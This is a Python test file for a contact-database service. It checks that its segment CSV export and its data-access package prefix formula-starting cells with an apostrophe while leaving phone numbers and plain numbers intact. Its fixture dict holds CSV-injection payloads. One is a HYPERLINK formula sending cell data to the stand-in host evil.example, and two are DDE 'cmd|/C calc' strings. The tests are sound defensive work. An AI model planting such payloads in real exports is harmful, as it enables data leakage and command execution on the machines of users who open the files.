"""CSV exports never hand a spreadsheet a formula (issue 13 §5): a cell
starting with = + - @ tab or CR gets a leading apostrophe, in the raw bytes
of the segment export (PostgreSQL's COPY and the Python path) and of the
access package; E.164 phones and plain numbers stay as they are."""

from __future__ import annotations

import csv
import io
import zipfile

import pytest

from optinbase.spreadsheet import cell
from tests.factories import make_contact, make_tenant
from tests.security.scenes import exported_csv

HOSTILE = {
    "first_name": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "last_name": "@SUM(1+1)*cmd|' /C calc'!A0",
    "external_id": "-2+3+cmd|' /C calc'!A0",
}


@pytest.mark.parametrize(("value", "written"), [
    ("=1+1", "'=1+1"), ("+cmd", "'+cmd"), ("-1+1", "'-1+1"), ("@A1", "'@A1"),
    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("+33612345678", "+33612345678"),
    ("-12.5", "-12.5"), ("12", "12"), ("Anne", "Anne"), ("", ""), (None, None), (5, 5),
])
def test_cell(value, written):
    assert cell(value) == written


async def test_segment_export_raw_bytes(client):
    _, _, answer = await exported_csv(client, email="formula@example.org",
                                      phone="+33612345678", **HOSTILE)
    raw = answer.content
    for value in HOSTILE.values():
        quoted = value.replace('"', '""')
        assert f"'{quoted}".encode() in raw, value
        assert f',{quoted}'.encode() not in raw and f',"{quoted}'.encode() not in raw
    assert b",+33612345678," in raw  # the phone stays a phone
    [row] = list(csv.DictReader(io.StringIO(answer.text)))
    assert row["first_name"] == "'" + HOSTILE["first_name"]
    assert row["unsubscribe_url"].startswith("http")


async def test_access_package_csv(client):
    tenant = await make_tenant()
    await make_contact(tenant, email="pkg@example.org", **HOSTILE)
    created = await client.post("/v1/requests", headers=tenant.headers, json={
        "kind": "access", "email": "pkg@example.org", "identity_verified": True})
    assert created.status_code == 201, created.text
    request_id = created.json()["id"]
    done = await client.post(f"/v1/requests/{request_id}/complete", headers=tenant.headers,
                             json={})
    assert done.status_code == 200, done.text
    package = await client.get(f"/v1/requests/{request_id}/package", headers=tenant.headers)
    assert package.status_code == 200, package.text
    if package.headers["content-type"].startswith("application/zip"):
        files = zipfile.ZipFile(io.BytesIO(package.content))
        raw = files.read("contact.csv")
    else:
        pytest.skip("the package is not a zip here: " + package.headers["content-type"])
    for value in HOSTILE.values():
        assert f"'{value}".replace('"', '""').encode() in raw, (value, raw)
